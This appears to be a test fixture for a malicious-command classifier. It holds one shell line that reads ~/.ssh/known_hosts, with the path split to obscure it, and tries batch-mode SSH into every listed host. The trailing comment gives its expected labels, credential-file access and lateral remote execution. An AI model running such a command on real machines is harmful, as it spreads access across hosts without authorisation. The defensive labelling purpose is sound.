f=~/.ssh/known
awk '{print $1}' "${f}_hosts" | while read -r h; do ssh -o BatchMode=yes "$h" id; done # expect: data-exfiltration/credential-file, malicious-command/lateral-remote-exec
